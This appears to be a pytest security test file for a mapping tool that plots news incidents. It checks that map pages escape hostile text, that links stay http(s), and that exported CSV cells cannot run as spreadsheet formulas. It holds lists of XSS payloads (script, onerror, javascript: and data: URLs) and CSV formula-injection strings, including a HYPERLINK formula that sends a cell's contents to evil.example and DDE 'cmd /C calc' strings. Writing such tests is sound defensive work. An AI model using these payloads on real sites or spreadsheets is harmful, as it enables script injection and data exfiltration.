"""Hostile article text through a real `geomap map` run: escaped wherever it reaches the page, links http(s) only,
and (where Chromium is installed) nothing of it runs in a browser.

Two routes in: a saved .geojson whose every string property is an attack (straight to the renderer), and
articles whose file name, title, URL and body carry markup (through the reader and the pipeline).
"""
from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from geomap.render.screenshot import CHROMIUM, launch

# each payload sets window.__pwned if it ever runs, in HTML, attribute, URL or script-string context
PAYLOADS = [
    "<script>window.__pwned='script'</script>",
    "</script><script>window.__pwned='breakout'</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "\"><svg onload=\"window.__pwned='attr'\">",
    "'-alert(window.__pwned='quote')-'",
    "${window.__pwned='template'}",
    "<a href=\"javascript:window.__pwned='link'\">click</a>",
]
BAD_URLS = ["javascript:window.__pwned='url'", " JaVaScRiPt:window.__pwned='url2'", "data:text/html,<script>window.__pwned='data'</script>",
            "vbscript:msgbox(1)"]
RAW_MARKUP = ("<script>window.__pwned", "onerror=\"window", "<svg onload", "href=\"javascript:", "</script><script>window.__pwned")


def payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


def hostile_collection() -> dict:
    features = []
    for n in range(len(PAYLOADS)):
        lon, lat = 30.0 + n * 0.3, 50.0 + n * 0.2
        p = payload(n)
        features.append({"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon, lat]}, "properties": {
            "layer": "incidents", "id": f"doc{p}-{n}", "doc": f"doc{p}", "event_type": "Explosions/Remote violence",
            "sub_event_type": "Air/drone strike", "date": "2025-04-25", "date_end": "2025-04-25", "date_precision": "day",
            "time_precision": 1, "place": p, "location": p, "gazetteer_id": p, "country_code": "UA", "admin1": p,
            "geo_precision": 1, "actors": [p, p], "people": [p], "fatalities": 1, "injuries": 2, "quote": f"Strike {p} on Kyiv.",
            "start": 0, "end": 10, "title": p, "url": BAD_URLS[n % len(BAD_URLS)], "confidence": 0.9, "sources": [p]}})
        features.append({"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon + 0.1, lat]}, "properties": {
            "layer": "places", "doc": p, "mention": p, "start": 0, "end": 4, "label": p, "name": p, "gazetteer_id": p,
            "feature_class": "P", "feature_code": "PPL", "country_code": "UA", "admin1": p, "population": 1000,
            "lat": lat, "lon": lon + 0.1, "confidence": 0.5}})
    ring = [[30.0, 49.0], [31.0, 49.0], [31.0, 49.5], [30.0, 49.5], [30.0, 49.0]]
    features.append({"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [ring]}, "properties": {
        "layer": "zones", "doc": payload(0), "name": payload(1), "status": payload(2), "basis": payload(3),
        "width_km": 10, "quote": payload(4), "start": 0, "end": 5, "date": "2025-04-25"}})
    return {"type": "FeatureCollection", "features": features}


def run_map(args: list) -> object:
    from geomap.cli import cli

    return CliRunner().invoke(cli, ["map", *map(str, args)])


def assert_escaped(page: str) -> None:
    for raw in RAW_MARKUP:
        assert raw not in page, f"unescaped {raw!r} in the page"
    for url in BAD_URLS:
        assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*""" + re.escape(url.strip()[:10]), page, re.I), url


@pytest.fixture(scope="module")
def hostile_map(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    layers = folder / "layers.geojson"
    layers.write_text(json.dumps(hostile_collection()), encoding="utf-8")
    out = folder / "map.html"
    result = run_map([layers, "--self-contained", "--tiles", "none", "--title", payload(1), "-o", out])
    assert result.exit_code == 0, result.stderr
    return out


def test_saved_layers_with_markup_are_escaped_in_the_page(hostile_map):
    assert_escaped(hostile_map.read_text(encoding="utf-8"))


def test_fragment_output_is_escaped_too(tmp_path):
    layers = tmp_path / "layers.geojson"
    layers.write_text(json.dumps(hostile_collection()))
    out = tmp_path / "fragment.json"
    result = run_map([layers, "--fragment", "--tiles", "none", "--title", payload(0), "-o", out])
    assert result.exit_code == 0, result.stderr
    parts = json.loads(out.read_text())
    for part in parts.values():
        assert_escaped(part)


@pytest.fixture(scope="module")
def hostile_articles(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("articles")
    name = "<img src=x onerror=\"window.__pwned='filename'\">"
    (folder / f"{name}.txt").write_text(
        f"Russian drones struck Kharkiv on Monday {payload(0)}, killing two civilians. "
        f"Shelling also hit Odesa {payload(2)} and Kherson {payload(3)}.\n", encoding="utf-8")
    (folder / f"{name}.meta.json").write_text(json.dumps({"title": payload(1), "url": BAD_URLS[0], "published": "2025-04-25"}))
    (folder / "page.html").write_text(
        f"<html><head><title>{payload(2).replace('<', '&lt;')}</title><script>window.__pwned='page'</script></head>"
        f"<body><p>An airstrike hit Kyiv {payload(4).replace('<', '&lt;')} overnight.</p>"
        f"<p>&lt;script&gt;window.__pwned='entity'&lt;/script&gt; Protesters gathered in Lviv.</p></body></html>")
    (folder / "feed.jsonl").write_text(json.dumps({"id": payload(5), "title": payload(6), "url": BAD_URLS[1],
                                                   "text": f"Explosions reported in Dnipro {payload(6)} on Sunday."}) + "\n")
    ring = [[33.0, 47.0], [34.0, 47.0], [34.0, 47.5], [33.0, 47.5], [33.0, 47.0]]
    (folder / "zones.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"name": payload(1), "status": "declared", "basis": payload(2), "quote": payload(3)},
         "geometry": {"type": "Polygon", "coordinates": [ring]}}]}))
    return folder


def _article_map(folder: Path, out: Path, *model: str) -> Path:
    layers = out.with_suffix(".geojson")
    result = run_map([folder, *model, "--zones", folder / "zones.geojson", "--self-contained", "--tiles", "none",
                      "-o", out, "--geojson", layers])
    assert result.exit_code == 0, result.stderr
    collection = json.loads(layers.read_text())
    assert len({f["properties"]["doc"] for f in collection["features"]}) >= 3
    assert any(f["properties"]["layer"] == "zones" for f in collection["features"])
    for feature in collection["features"]:
        url = feature["properties"].get("url")
        assert url is None or url.startswith(("http://", "https://")), url
    return out


def test_hostile_articles_are_escaped_in_the_page(hostile_articles, tmp_path):
    out = _article_map(hostile_articles, tmp_path / "map.html", "--model", "none")
    assert_escaped(out.read_text(encoding="utf-8"))


@pytest.mark.e2e
def test_hostile_articles_with_the_statistical_model(hostile_articles, tmp_path):
    out = _article_map(hostile_articles, tmp_path / "map.html")
    page = out.read_text(encoding="utf-8")
    assert_escaped(page)
    if Path(CHROMIUM).exists():
        assert_inert(out)


# -- in a real browser ------------------------------------------------------------------------------------------

# open every popup and tooltip Leaflet knows of, and return where each point feature is drawn (for real clicks)
OPEN_EVERYTHING = """() => {
  const points = [];
  for (const key of Object.keys(window)) {
    const map = window[key];
    if (!(window.L && map instanceof L.Map)) continue;
    const box = map.getContainer().getBoundingClientRect();
    map.eachLayer(layer => {
      try { if (layer.getPopup && layer.getPopup()) layer.openPopup(); } catch (e) {}
      try { if (layer.getTooltip && layer.getTooltip()) layer.openTooltip(); } catch (e) {}
      if (layer.getLatLng) {
        const p = map.latLngToContainerPoint(layer.getLatLng());
        if (p.x >= 0 && p.y >= 0 && p.x <= box.width && p.y <= box.height) points.push([box.x + p.x, box.y + p.y]);
      }
    });
  }
  return points.slice(0, 60);
}"""


def assert_inert(page: Path) -> int:
    """Load ``page`` offline, hover and click every point, open every popup; returns how many points were clicked."""
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as pw:
        browser = launch(pw)
        try:
            context = browser.new_context(java_script_enabled=True)
            requests: list[str] = []

            def block(route):
                requests.append(route.request.url)
                route.abort()

            context.route(re.compile(r"^(?!file:|data:|blob:|about:)"), block)
            tab = context.new_page()
            dialogs: list[str] = []
            tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            errors: list[str] = []
            tab.on("pageerror", lambda e: errors.append(str(e)))
            tab.goto(page.resolve().as_uri(), wait_until="load")
            tab.wait_for_timeout(500)
            assert tab.evaluate("() => !!(window.L && document.querySelector('.leaflet-container'))"), "the map did not load"
            points = tab.evaluate(OPEN_EVERYTHING)
            for x, y in points:
                tab.mouse.move(x, y)  # tooltips
                tab.mouse.click(x, y)  # popups
                tab.wait_for_timeout(30)
            tab.wait_for_timeout(300)
            hrefs = tab.evaluate("() => [...document.querySelectorAll('[href], [src], [action]')]"
                                 ".map(e => e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('action'))")
            pwned = tab.evaluate("() => window.__pwned === undefined ? null : String(window.__pwned)")
        finally:
            browser.close()
    assert pwned is None, f"hostile text ran: {pwned}"
    assert dialogs == []
    for href in hrefs:
        assert not re.match(r"\s*(javascript|vbscript|data:text/html)", href or "", re.I), href
    assert requests == [], requests  # self-contained: the page asked for nothing
    return len(points)


needs_chromium = pytest.mark.skipif(not Path(CHROMIUM).exists() or shutil.which("true") is None, reason="no /usr/bin/chromium")


@pytest.mark.browser
@needs_chromium
def test_saved_layers_with_markup_do_not_run_in_a_browser(hostile_map):
    assert assert_inert(hostile_map) >= len(PAYLOADS)  # every incident was clicked


@pytest.mark.browser
@needs_chromium
def test_hostile_articles_do_not_run_in_a_browser(hostile_articles, tmp_path):
    assert_inert(_article_map(hostile_articles, tmp_path / "map.html", "--model", "none"))


# -- spreadsheets -----------------------------------------------------------------------------------------------


def test_acled_csv_cells_cannot_run_as_formulas(tmp_path):
    import csv

    from geomap.export import write_csv

    collection = hostile_collection()
    attacks = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1"]
    incidents = [f for f in collection["features"] if f["properties"]["layer"] == "incidents"]
    for feature, attack in zip(incidents, attacks):
        feature["properties"].update(quote=attack, place=attack, actors=[attack], people=[attack], admin1=attack,
                                     sources=[attack])
    out = write_csv(tmp_path / "acled.csv", collection)
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(incidents)
    for row in rows:
        for column, value in row.items():
            if column in ("latitude", "longitude", "fatalities", "time_precision", "geo_precision"):
                float(value)  # numbers stay numbers, negative ones included
                continue
            assert not value.startswith(("=", "+", "-", "@", "\t", "\uff1d")), (column, value)
    assert rows[0]["notes"] == "'" + attacks[0]
